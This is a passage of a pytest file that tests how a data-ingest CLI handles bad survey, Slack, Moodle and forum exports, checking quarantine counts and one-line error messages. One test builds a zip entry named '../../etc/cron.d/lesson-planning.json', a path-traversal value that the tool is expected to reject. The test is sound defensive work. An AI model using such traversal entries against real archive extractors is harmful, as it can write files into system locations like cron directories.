    pytest.param(forms_file([["2/10/2026 16:05:11", "ana.ruiz@district.example", "-3", "-1", "The fractions lesson"]]),
                 Quarantine("answer outside the item's scale", rows={"survey_responses": 1, "quarantine": 2}),
                 id="survey-negative-numbers"),
    pytest.param(
        forms_file([["2/10/2026 16:05:11", "ana.ruiz@district.example", "Disagree", "Agree", "First try"],
                    ["2/10/2026 16:09:40", "ben.ode@district.example", "Agree", "Agree", "Number talks"],
                    ["2/12/2026 08:30:00", "ana.ruiz@district.example", "Agree", "Strongly agree", "The fractions lesson"]]),
        Quarantine("superseded by a later submission", rows={"survey_responses": 6, "quarantine": 1},
                   check=answer_check("imm_useful", numbers=[4.0, 4.0])),
        id="survey-submitted-twice",
    ),
    pytest.param(
        qualtrics_file([
            _qualtrics_row("2026-09-14 19:31:22", "IP Address", "R_1aBcDeFgHiJkLmN", "ana.ruiz@district.example", "email",
                           "Agree", "Yes", "The fractions lesson"),
            _qualtrics_row("2026-09-14 20:01:00", "Survey Preview", "R_2pReViEwXyZ0001", "", "preview", "Agree", "Yes", "test"),
        ]),
        Quarantine("excluded: survey preview", rows={"survey_responses": 3, "quarantine": 1}),
        id="qualtrics-preview-row",
    ),
    # --- platform-specific exclusions
    pytest.param(
        slack_zip(channels={"lesson-planning": SLACK_DAY, "standup": [
            {"type": "message", "subtype": "bot_message", "bot_id": "B03BOT", "username": "standup-bot",
             "text": "Daily standup: what are you teaching today?", "ts": "1770120000.000100"},
            {"type": "message", "subtype": "bot_message", "bot_id": "B03BOT", "username": "standup-bot",
             "text": "Reminder: grades due Friday.", "ts": "1770123600.000100"},
        ]}),
        Quarantine("excluded: system message (bot_message)", rows={"posts": 2, "quarantine": 3}),
        id="slack-bot-only-channel",
    ),
    pytest.param(moodle_file([*MOODLE_ROWS, _moodle_row("504", "51", "501", "34", "Tomas Berg", "2026-01-14T10:00:00",
                                                        "Re: Number talks: week 1", "<p>This post was removed</p>", deleted="1")]),
                 Quarantine("excluded: deleted post", rows={"posts": 3, "quarantine": 1}, bad_posts=("504",)),
                 id="moodle-deleted-rows"),
    # --- community folders
    pytest.param(community_with(COMMUNITY_YAML + "platform: yammer\n", {"forum/topic_31.json": _topic(DISCOURSE_POSTS)},
                                culprit="community.yaml"),
                 Error("unknown forum platform 'yammer'"), id="community-unknown-platform"),
    pytest.param(community_with("name: Lakeview Math\nstaff: [coach.imani\ntimezone: America/Chicago\n",
                                {"forum/topic_31.json": _topic(DISCOURSE_POSTS)}, culprit="community.yaml"),
                 Error("not valid YAML"), id="community-yaml-syntax-error"),
    pytest.param(community_with(COMMUNITY_YAML + "funderr: Tri-County STEM Foundation\n", {"forum/topic_31.json": _topic(DISCOURSE_POSTS)},
                                culprit="community.yaml"),
                 Error("funderr: Extra inputs are not permitted"), id="community-yaml-unknown-key"),
    pytest.param(community_with("name: Lakeview Math\ntimezone: Central Time\n", {"forum/topic_31.json": _topic(DISCOURSE_POSTS)},
                                culprit="community.yaml"),
                 Error("unknown timezone 'Central Time'"), id="community-yaml-bad-timezone"),
    pytest.param(community_with(COMMUNITY_YAML, {"surveys/baseline.csv": _csv(FORMS_HEADER, [])}, culprit="forum"),
                 Error("no forum export found"), id="community-without-forum-folder"),
    pytest.param(missing_path, Error("no such file or folder"), id="path-does-not-exist"),
    pytest.param(not_an_export_folder, Error("holding no supported", lacks=("starts with ''",)), id="folder-that-is-not-an-export"),
    # the culprit is the option, and the message names it and the platforms known
    pytest.param(file_with("district_forum.csv", _generic(), args=["--platform", "yammer"], culprit="--platform"),
                 Error("unknown platform 'yammer'"), id="unknown-cli-platform"),
]


# ---------------------------------------------------------------- running and judging
def _run_in_process(built: Built, out: Path, capsys, monkeypatch) -> tuple[int, str, str, float]:
    monkeypatch.setenv("VALUE_PIPELINE_SECRET", SECRET)
    monkeypatch.setattr(warnings, "showwarning", warnings.showwarning)  # cli.main replaces it; restore after
    capsys.readouterr()
    started = time.perf_counter()
    try:
        status = cli.main(["ingest", str(built.path), "--out", str(out), *built.args])
    except Exception as error:  # a traceback is a contract failure: say what escaped, in one line
        lines = [line for line in str(error).splitlines() if line.strip()]
        pytest.fail(f"traceback: {type(error).__name__}: {lines[0] if lines else ''}", pytrace=False)
    elapsed = time.perf_counter() - started
    captured = capsys.readouterr()
    return status, captured.out, captured.err, elapsed


def _assert_error(expect: Error, built: Built, out: Path, status: int, stdout: str, stderr: str) -> None:
    assert "Traceback" not in stderr, stderr
    lines = stderr.splitlines()
    assert len(lines) == 1, f"expected one line on stderr, got {stderr!r}"
    line = lines[0]
    assert line.startswith("value-pipeline: "), line
    assert status == 2, (status, line)
    assert stdout == "", stdout
    culprit = str(built.culprit if built.culprit is not None else built.path)
    assert culprit in line, f"the message does not name {culprit}: {line}"
    problem = line.split(culprit, 1)[1]  # the explanation, after the path (a path may hold any word)
    assert expect.message in problem, line
    for text in expect.lacks:
        assert text not in problem, line
    assert not out.exists(), f"{out} was created: {sorted(p.name for p in out.iterdir())}"


def _quarantined_keys(quarantine: pl.DataFrame, table: str) -> set[tuple[str, int]]:
    return set(quarantine.filter(pl.col("table") == table).select("source_file", "source_row").iter_rows())


def _assert_quarantine(expect: Quarantine, out: Path, status: int, stdout: str, stderr: str) -> None:
    assert "Traceback" not in stderr, stderr
    assert stderr == "", stderr
    assert status == 0, (status, stdout)
    assert len(stdout.splitlines()) == 1, stdout
    # Every table written whole: no leftover partial file.
    assert sorted(p.name for p in out.iterdir()) == sorted([*(f"{name}.parquet" for name in TABLES), "summary.json"])
    summary = json.loads((out / "summary.json").read_text(encoding="utf-8"))
    tables = {name: pl.read_parquet(out / f"{name}.parquet") for name in TABLES}
    # Never a row silently dropped: every account balances.
    assert summary["balanced"] is True, summary["accounts"]
    for account in summary["accounts"]:
        assert account["read"] == account["accepted"] + account["quarantined"], account
    assert summary["rows"]["posts"] == tables["posts"].height
    assert summary["rows"]["survey_responses"] == tables["survey_responses"].height
    assert summary["rows"]["quarantine"] == tables["quarantine"].height
    reasons = [entry["reason"] for entry in summary["quarantine_by_reason"]]
    if expect.reason is None:
        assert reasons == [], reasons
    else:
        wanted = (expect.reason,) if isinstance(expect.reason, str) else expect.reason
        assert any(text in reason for text in wanted for reason in reasons), reasons
        assert all(reason.strip() for reason in tables["quarantine"].get_column("reason").to_list())
    for name, count in expect.rows.items():
        assert summary["rows"][name] == count, (name, summary["rows"], summary["quarantine_by_reason"])
    # The quarantined rows are not among the accepted ones.
    quarantine = tables["quarantine"]
    accepted_posts = set(tables["posts"].select("source_file", "source_row").iter_rows())
    assert not (_quarantined_keys(quarantine, "posts") & accepted_posts)
    accepted_rows = set(tables["survey_responses"].select("source_file", "source_row").iter_rows())
    assert not (_quarantined_keys(quarantine, "survey_responses") & accepted_rows)
    accepted_answers = set(tables["survey_responses"].select("source_file", "source_row", "item_id").iter_rows())
    for source_file, source_row, raw in quarantine.filter(pl.col("table") == "survey_answers").select(
        "source_file", "source_row", "raw"
    ).iter_rows():
        item_id = json.loads(raw).get("item_id")
        assert (source_file, source_row, item_id) not in accepted_answers
    posts = tables["posts"].get_column("post_id").to_list()
    assert not set(expect.bad_posts) & set(posts), posts
    assert len(posts) == len(set(posts)), "duplicate post ids accepted"
    if expect.check is not None:
        expect.check(tables)


@pytest.mark.parametrize(("build", "expect"), CASES)
def test_bad_input(build, expect, tmp_path, capsys, monkeypatch):
    built = build(tmp_path)
    out = tmp_path / "out"
    status, stdout, stderr, elapsed = _run_in_process(built, out, capsys, monkeypatch)
    if isinstance(expect, Error):
        _assert_error(expect, built, out, status, stdout, stderr)
    else:
        _assert_quarantine(expect, out, status, stdout, stderr)
    if expect.max_seconds is not None:
        assert elapsed < expect.max_seconds, f"took {elapsed:.1f} s"


def test_real_command_line_behaves_the_same(tmp_path):
    """The installed entry point, in a fresh process: one line, exit 2, no output folder."""
    built = slack_zip(extra={"../../etc/cron.d/lesson-planning.json": b"[]"})(tmp_path)
    out = tmp_path / "out"
    result = subprocess.run(
        [sys.executable, "-m", "assets.cli", "ingest", str(built.path), "--out", str(out)],
        capture_output=True, text=True, cwd=PROJECT, timeout=120,
        env={**os.environ, "VALUE_PIPELINE_SECRET": SECRET},
    )
    _assert_error(Error("unsafe path in zip: ../../etc/cron.d/lesson-planning.json"), built, out,
                  result.returncode, result.stdout, result.stderr)
